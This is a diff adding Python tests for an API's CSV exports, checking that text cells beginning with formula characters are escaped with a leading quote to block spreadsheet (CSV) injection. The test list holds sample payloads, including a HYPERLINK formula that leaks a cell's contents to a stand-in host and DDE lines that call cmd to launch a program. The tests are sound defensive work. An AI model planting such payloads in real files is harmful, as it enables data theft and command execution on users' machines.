@@ -9,7 +9,7 @@ from sqlalchemy import Engine
 
 from app.api import export
 from app.demo import load_demo
-from tests.api.helpers import assert_problem
+from tests.api.helpers import assert_problem, claim, created, source
 
 
 def test_figures_as_csv_with_claimants_and_filters(client: TestClient, engine: Engine) -> None:
@@ -47,3 +47,49 @@ def test_hxl_row_under_the_header(client: TestClient, engine: Engine) -> None:
 
 def test_unknown_format_is_422(client: TestClient) -> None:
     assert_problem(client.get("/events", params={"format": "xlsx"}), 422, "query.format")
+
+
+# --- spreadsheet formulas (CSV injection) ----------------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+]
+
+
+def sheet(text: str, hxl: bool = False) -> list[dict[str, str]]:
+    """The cells as a spreadsheet reads the file (the HXL row skipped)."""
+    rows = list(csv.DictReader(io.StringIO(text)))
+    return rows[1:] if hxl else rows
+
+
+def test_formulas_in_csv_exports_are_text_and_numbers_stay_numbers(client: TestClient) -> None:
+    event = created(client, "/events", {"name": "Strike"})
+    for name in FORMULAS:
+        claimant = source(client, name)
+        claim(client, claimant["id"], [{"event_id": event["id"], "metric": "killed", "text": "5"}])
+    for hxl in (False, True):
+        names = [r["name"] for r in sheet(client.get("/sources", params={"format": "csv", "hxl": hxl}).text, hxl)]
+        assert names == ["'" + name for name in FORMULAS]
+        figures = sheet(client.get("/figures", params={"format": "csv", "hxl": hxl}).text, hxl)
+        assert [f["claimant_name"] for f in figures] == ["'" + name for name in FORMULAS]
+        assert {(f["low"], f["high"]) for f in figures} == {("5.0", "5.0")}
+    ndjson = client.get("/sources", params={"format": "ndjson"}).text.splitlines()
+    assert [json.loads(line)["name"] for line in ndjson] == FORMULAS  # data, not a sheet: as stored
+
+
+def test_only_text_cells_are_neutralised() -> None:
+    row = {"n": -3.5, "i": -2, "z": 0, "text": "-2+3", "tab": "\tx", "cr": "\rx", "plain": "Bloomberg", "none": None}
+    body = b"".join(export.csv_lines(iter([row]), list(row), hxl=False)).decode()
+    (cells,) = sheet(body)
+    assert cells == {
+        "n": "-3.5",
+        "i": "-2",
+        "z": "0",
+        "text": "'-2+3",
+        "tab": "'\tx",
+        "cr": "'\rx",
+        "plain": "Bloomberg",
+        "none": "",
+    }
